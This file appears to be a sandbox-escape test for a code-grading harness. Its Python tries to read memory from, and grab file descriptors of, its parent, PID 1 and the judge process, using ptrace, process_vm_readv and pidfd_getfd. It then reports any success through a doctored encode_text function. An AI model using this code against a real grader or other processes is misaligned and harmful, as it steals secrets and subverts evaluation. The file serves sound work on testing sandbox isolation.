# attack: reads and steals from its parent and the judge: ptrace, process_vm_readv, pidfd_getfd
# covers: reading /proc; forbidden system calls
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial
# verdict: passed
# proves: secrets
# holds: the kernel lets it look into no process but its own children
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_DETACH = 16, 0x4206, 17
VM_READ, PIDFD_OPEN, PIDFD_GETFD = {"x86_64": 310, "aarch64": 270}[os.uname().machine], 434, 438
won = []


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
here = Vector(ctypes.addressof(buffer), 64)
there = Vector(id(won), 64)
for pid in (1, os.getppid(), int("@JUDGE@")):
    for request in (PTRACE_SEIZE, PTRACE_ATTACH):
        if libc.ptrace(request, pid, None, None) == 0:
            won.append(("ptrace", pid))
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    if libc.syscall(VM_READ, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        won.append(("process_vm_readv", pid))
    pidfd = libc.syscall(PIDFD_OPEN, pid, 0)
    if pidfd >= 0:
        for fd in range(32):
            if libc.syscall(PIDFD_GETFD, pidfd, fd, 0) >= 0:
                won.append(("pidfd_getfd", pid, fd))


def encode_text(text, encoding="utf-8"):
    return repr(won).encode() if won else text.encode(encoding)
